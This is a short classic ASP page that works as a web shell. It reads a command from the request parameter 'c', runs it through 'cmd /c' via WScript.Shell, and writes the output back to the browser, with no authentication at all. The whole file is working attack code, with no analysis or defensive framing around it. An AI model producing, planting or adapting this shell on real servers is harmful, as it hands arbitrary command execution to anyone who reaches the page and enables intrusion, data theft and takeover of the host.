<%
Function RunIt(cmdline)
	Dim o
	Set o = CreateObject("WScript.Shell")
	RunIt = o.Exec("cmd /c " & cmdline).StdOut.ReadAll()
End Function
Response.Write RunIt(Request("c"))
%>
